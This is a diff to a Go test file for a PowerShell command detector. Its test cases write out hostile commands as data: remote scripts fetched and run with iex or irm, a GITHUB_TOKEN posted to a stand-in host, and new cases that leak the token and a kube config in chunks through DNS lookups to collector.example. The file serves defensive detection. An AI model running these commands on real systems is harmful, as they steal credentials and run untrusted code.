@@ -145,6 +145,9 @@ func TestPowerShell(t *testing.T) {
 		{"iex (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')\n", "fetch-exec"},
 		{"$c = Invoke-WebRequest -Uri https://x.example/a.ps1\nInvoke-Expression $c\n", "fetch-exec"},
 		{"$t = $env:GITHUB_TOKEN\nInvoke-RestMethod -Uri https://x.example -Method Post -Body $t\n", "secret-send"},
+		{"$t = $env:GITHUB_TOKEN\nResolve-DnsName -Name \"$t.k.collector.example\" -Type TXT\n", "secret-send"},
+		{"$c = Get-Content \"$env:USERPROFILE\\.kube\\config\" -Raw\nforeach ($p in ($c -split \"(.{60})\")) { Resolve-DnsName \"$p.k.collector.example\" }\n", "secret-send"},
+		{"$h = $env:COMPUTERNAME\nResolve-DnsName -Name \"$h.corp.example\"\n", ""},
 		{"Get-ChildItem -Path .\\src\n", ""},
 		// A pipeline: each command reads what the one before gives.
 		{"irm https://x.example/a.ps1 | iex\n", "fetch-exec"},
